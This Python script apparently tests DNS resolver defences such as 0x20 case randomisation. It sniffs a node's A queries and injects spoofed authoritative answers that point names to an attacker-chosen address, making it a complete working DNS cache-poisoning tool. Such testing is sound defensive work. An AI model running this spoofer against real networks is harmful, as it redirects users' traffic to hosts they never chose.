"""A forger on the upstream path, racing the real servers.

Usage: spoofer.py IFACE SERVER NODE SECONDS POISON
For SECONDS, watches the A queries NODE sends to SERVER on IFACE (it sees
their ports, IDs and case, as an attacker who guessed them would) and for
each sends forged answers from SERVER:53 that point the name to POISON:
  - "lower": the right port and ID, the name in lower case (0x20 must
    catch it);
  - "guessed": the right port and ID, the name's case guessed at random;
  - "blind": 8 with the name as asked but a guessed port and ID (what a
    forger off the path must get right).
Prints one JSON object: queries seen, forgeries sent by kind.
"""
import json
import random
import socket
import struct
import sys
import time

IFACE, SERVER, NODE, SECONDS, POISON = sys.argv[1:6]
SECONDS = float(SECONDS)
ETH_P_IP = 0x0800
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
sniff.bind((IFACE, 0))
sniff.settimeout(0.2)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(src, sport, dst, dport, payload):
    """An IPv4 packet carrying UDP, both checksums right."""
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def answer(qid, qname):
    """An authoritative answer: qname A POISON, TTL a day."""
    head = struct.pack("!HHHHHH", qid, 0x8500, 1, 1, 0, 0)
    question = qname + struct.pack("!HH", 1, 1)
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 86400, 4) + socket.inet_aton(POISON)
    return head + question + record


def recased(qname, how):
    out = bytearray(qname)
    for i, b in enumerate(out):
        if chr(b).isalpha():
            out[i] = ord(chr(b).lower()) if how == "lower" else (b ^ 0x20 if random.getrandbits(1) else b)
    return bytes(out)


sent = {"lower": 0, "guessed": 0, "blind": 0}
seen = 0
deadline = time.monotonic() + SECONDS
while time.monotonic() < deadline:
    try:
        frame = sniff.recv(65535)
    except socket.timeout:
        continue
    ip = frame[14:]
    if len(ip) < 28 or ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != NODE or socket.inet_ntoa(ip[16:20]) != SERVER:
        continue
    udp = ip[(ip[0] & 0x0F) * 4:]
    sport, dport = struct.unpack("!HH", udp[:4])
    dns = udp[8:]
    if dport != 53 or len(dns) < 17:
        continue
    end = dns.index(b"\x00", 12) + 1
    qname, qtype = dns[12:end], struct.unpack("!H", dns[end:end + 2])[0]
    if qtype != 1:
        continue
    seen += 1
    qid = struct.unpack("!H", dns[:2])[0]
    for how in ("lower", "guessed"):
        raw.sendto(datagram(SERVER, 53, NODE, sport, answer(qid, recased(qname, how))), (NODE, 0))
        sent[how] += 1
    for _ in range(8):
        port, guess = random.randint(1024, 65535), random.getrandbits(16)
        if (port, guess) == (sport, qid):
            continue
        raw.sendto(datagram(SERVER, 53, NODE, port, answer(guess, qname)), (NODE, 0))
        sent["blind"] += 1
print(json.dumps({"queries_seen": seen, "forged": sent}))
